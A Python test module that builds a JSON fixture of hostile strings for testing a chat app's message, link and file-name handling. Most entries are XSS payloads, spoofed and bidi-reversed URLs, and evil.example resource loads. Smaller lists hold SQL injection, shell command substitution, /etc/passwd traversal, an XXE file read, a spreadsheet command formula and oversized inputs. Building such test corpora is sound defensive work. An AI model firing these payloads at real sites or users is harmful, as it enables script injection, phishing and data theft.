"""Strings that people send to break a chat: as message, title, name, link or quote.

They are written here by kind, and lie in `hostile.json` for tests in both languages,
which `python -m tests.hostile` makes. Long ones are {"repeat": …, "times": …} there.
"""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path

PATH = Path(__file__).with_name("hostile.json")

# What a script of ours would do, and what a test looks for afterwards.
CALL = "window.hacked=1"

HANDLERS = ["onerror", "onload", "onfocus", "onclick", "ontoggle", "onanimationend"]
ELEMENTS = [
    "<img src=x {0}={1}>",
    "<svg {0}={1}>",
    "<body {0}={1}>",
    "<input autofocus {0}={1}>",
    "<details open {0}={1}>",
    "<video><source {0}={1}>",
    "<x style=animation-name:a {0}={1}>",
    "\"><img src=x {0}='{1}'>",
    "'><svg/{0}={1}//",
    "<iframe src=about:blank {0}={1}>",
    "<marquee {0}={1}>x</marquee>",
    "<audio autoplay src=x {0}={1}>",
    "<select autofocus {0}={1}><option>",
    "</p><div tabindex=0 {0}={1}>x</div>",
]
ACTIVE = [
    "<script>{0}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<object data='data:text/html,<script>{0}</script>'>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0}>click</a>",
    "<form action=javascript:{0}><button>send</button></form>",
    "<math href=javascript:{0}>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example/)}}</style>",
    "<template shadowrootmode=open><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "</template><script>{0}</script>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "<%= {0} %>",
    "{{%% {0} %%}}",
    "javascript:{0}",
    "';{0}//",
    '";{0}//',
    "`${{{0}}}`",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
]
SCHEMES = [
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    " javascript:{0}",
    "javascript&colon;{0}",
    "javascript%3A{0}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{0}</script>",
    "data:image/svg+xml,<svg onload={0}>",
    "blob:https://chat.example/1",
    "file:///etc/passwd",
    "filesystem:https://chat.example/x",
    "view-source:https://example.com",
    "intent://x#Intent;scheme=javascript;end",
    "ftp://example.com/",
    "//evil.example/x",
    "/api/me",
    "#AAAAAAAAAAAAAAAAAAAAAA",
    "https:evil.example",
    "http:/evil.example",
]
HOSTS = [
    "https://аррӏе.com/",
    "https://gооgle.com/login",
    "https://раураl.com",
    "https://xn--80ak6aa92e.com/",
    "https://ｅvil.example/",
    "https://google.com@evil.example/",
    "https://google.com:443@evil.example/",
    "https://google.com%40evil.example/",
    "https://google.com\\@evil.example/",
    "https:\\\\evil.example\\",
    "https:///evil.example/",
    "https://evil。example/",
    "https://google.com∕evil.example/",
    "https://google.com․evil.example/",
    "https://google.com\u200b.evil.example/",
    "https://google.com\u00ad.evil.example/",
    "https://0x7f.1/",
    "https://2130706433/",
    "https://127.1:8080/x",
    "https://[::1]/",
    "https://[::ffff:127.0.0.1]/",
    "https://a:b:c@d/",
    "https://:80/",
    "https://",
    "http://.",
    "http://..../",
    "http://-/",
    "https://example.com:99999/",
    "https://example.com/\u202egnp.exe",
    "https://example.com/\u2066\u202emoc.live\u2069",
    "https://example.com/א/evil.example/ב",
    "https://example.com/%00%0d%0aSet-Cookie:x",
    "https://example.com/?q=<script>{0}</script>",
    "https://example.com/'onmouseover='{0}",
    'https://example.com/"onmouseover="{0}',
    "mailto:a@b.example?bcc=evil@evil.example&body=x",
    "mailto:\u202eelpmaxe.b@a",
    "mailto:<script>{0}</script>@b.example",
    "HTTPS://EXAMPLE.COM/A_b_c",
    "https://example.com/*bold*_italic_~~",
]
NAMED = [
    "[https://google.com]({})",
    "[](x{}",
    "[ ]({})",
    "[*bold*]({})",
    "[![img](x)]({})",
    "[a](b)]({})",
    "[safe\u202e]({})",
]
BIDI = [
    "\u202eevil",
    "\u202e\u202e\u202e three times",
    "\u202dabc\u202e def",
    "\u2066\u2067\u2068 unclosed",
    "\u2069\u2069\u2069 closes what is not open",
    "\u202c\u202c\u202c the same",
    "a\u202eb\nc\u202ed",
    "file\u202egnp.exe",
    "*\u202ebold*\u202c and \u2067_italic_",
    "\u061cمرحبا hello \u200fשלום\u200e",
    "مرحبا https://example.com/مسار?q=1",
    "(\u202e(\u2067[\u202d{",
    "@\u202eecila",
    "`\u202ecode`",
    "> \u202equote",
    "- \u202eitem",
]
INVISIBLE = [
    "\u200b",
    "\u200b\u200c\u200d\u2060\ufeff",
    "a\u200bb\u200cc\u200dd",
    "\u00ad\u00ad\u00ad",
    "\u3164\u115f\u1160\uffa0",
    "\u2800\u2800",
    "\u180e\u034f\u17b4\u17b5",
    "".join(chr(0xE0000 + number) for number in range(0x20, 0x7F)),
    "\U000e0001\U000e0020\U000e007f",
    "\u2028\u2029",
    "\u0085\u00a0\u1680\u2000",
    "\ufff9a\ufffab\ufffb",
    "\ufffe\uffff",
    "\ue000\uf8ff\U000f0000\U0010ffff",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\u200d❤\u200d\ufe0f\u200d",
]
LETTERS = [
    "раypal",
    "аdmin",
    "AＬＩＣＥ",
    "аⅼice",
    "𝓪𝓵𝓲𝓬𝓮",
    "ⓐⓛⓘⓒⓔ",
    "alıce",
    "ALİCE",
    "straße STRASSE ſtrasse",
    "ﷺﷺﷺﷺ",
    "꧁༺alice༻꧂",
    "Å Å Å",
    "ﬀ ﬁ ﬂ ﬃ",
    "\u0130\u0131\u017f\u212a",
    "̡̢̛̗̘̙̜̝̞̟",
    "ก็็็็็็็็็็็็็็็็็็็็",
    "Z̷̡̨̢̛̛̖̗̘̙̜͚͎̎̏̐̑ͩͪͫ͛͌ä̸̧̡̛̘̙̜̝̞̟̠",
    "뢺믯뢺",
    "ᄀ" * 50 + "ᅡ" * 50,
    "👩‍👩‍👧‍👦" * 20,
    "\U0001f1e6" * 41,
    "🏻🏼🏽🏾🏿",
    "\u20e3\u20e0\u20dd",
    "𒐫𒈙﷽𒈙𒐫",
]
NUMBERS = [
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "0x7fffffffffffffff",
    "999999999. list",
    "99999999999999999999. no list",
    "0. zero",
    "-0",
    "9007199254740993",
    "1/0",
    "١٢٣٤٥",
    "null",
    "undefined",
    "true",
    "[object Object]",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "../../etc/passwd",
    "C:\\nul\\con",
    "' OR 1=1 --",
    "'; DROP TABLE messages; --",
    "$(id)",
    "`id`",
    "| id",
    "%s%n%x",
    "{0}{1}",
    "=cmd|' /C calc'!A0",
]
MARKS = [
    "*",
    "**",
    "***",
    "****",
    "_*~`",
    "`",
    "``",
    "```",
    "```\n```",
    "```\n\n```\n",
    "> ",
    ">>>>>>>>",
    "- ",
    "1. ",
    "[",
    "](",
    "[]()",
    "@",
    "@@@",
    "*a _b ~c `d",
    "*a _b* c_",
    "\n",
    "\n\n\n\n",
    "\t\t\t",
    "\\*\\_\\~",
    "¯\\_(ツ)_/¯",
    "> - > - > - deep",
    "- - - - - -",
    "*.* and (*_*) and ^_^",
    "snake_case_name and 2*3*4",
]
LONG = [
    ("e\u0301", 5_000),
    ("a" + "\u0300" * 99, 80),
    ("\u0301", 8_000),
    ("\u0e49", 5_000),
    ("\u202e", 5_000),
    ("\u2066", 5_000),
    ("W", 16_384),
    ("W ", 8_192),
    ("\n", 16_384),
    ("*a ", 5_400),
    ("*a* ", 4_000),
    ("_", 16_384),
    ("~a", 8_000),
    ("`", 16_384),
    ("` `` ", 3_200),
    ("```\n", 4_096),
    ("> ", 8_192),
    (">", 16_384),
    ("> \n", 5_400),
    ("- ", 8_192),
    ("- a\n  ", 2_700),
    ("1. a\n", 3_200),
    ("[", 16_384),
    ("[a](", 4_096),
    ("[a](https://", 1_365),
    ("](", 8_192),
    ("https://", 2_048),
    ("https://a)", 1_638),
    ("https://a.example/ ", 862),
    ("(", 16_384),
    ("@alice ", 2_340),
    ("@", 16_384),
    ("😀", 4_096),
    ("👩‍👩‍👧‍👦", 655),
    ("ﷺ", 5_461),
    ("𒐫", 4_096),
    ("<b>", 5_461),
    ("&amp;", 3_276),
    ("\t", 16_384),
    ("\u200b", 5_461),
]

# Names of files: they travel in messages too.
FILES = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"/>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<html><body onload={0}></html>",
    "invoice\u202efdp.exe",
    "photo.jpg.html",
    "image.svg#<script>{0}</script>",
    '"; filename="x.html',
    "a.txt\u0000.exe".replace("\u0000", "\u2400"),
    "con.txt",
    "...",
    ".htaccess",
    "名前" * 40 + ".txt",
]


def strings() -> list[dict]:
    """Give every string with its kind."""
    of_elements = [
        shape.format(handler, CALL) for shape, handler in product(ELEMENTS, HANDLERS)
    ]
    schemes = [scheme.format(CALL) for scheme in SCHEMES]
    hosts = [host.replace("{0}", CALL) for host in HOSTS]
    named = [shape.format(host) for shape, host in product(NAMED, hosts[:6])]
    hidden = [f"[click here]({scheme})" for scheme in schemes]
    by_kind = {
        "element": of_elements,
        "active": [text.format(CALL) for text in ACTIVE],
        "scheme": schemes + hidden,
        "link": hosts,
        "named link": named,
        "bidi": BIDI,
        "invisible": INVISIBLE,
        "letters": LETTERS,
        "number": NUMBERS,
        "marks": MARKS,
        "file": [text.replace("{0}", CALL) for text in FILES],
    }
    # What stands under two kinds is sent once.
    by_kind = {kind: list(dict.fromkeys(texts)) for kind, texts in by_kind.items()}
    short = [
        {"kind": kind, "text": text}
        for kind, texts in by_kind.items()
        for text in texts
    ]
    long = [{"kind": "long", "repeat": text, "times": n} for text, n in LONG]
    return short + long


def load() -> list[tuple[str, str]]:
    """Give (kind, string) as the file has them."""
    return [
        (one["kind"], one.get("text") or one["repeat"] * one["times"])
        for one in json.loads(PATH.read_text())
    ]


if __name__ == "__main__":
    made = json.dumps(strings(), indent=1)
    PATH.write_text(f"{made}\n")
    print(f"{len(strings())} strings")
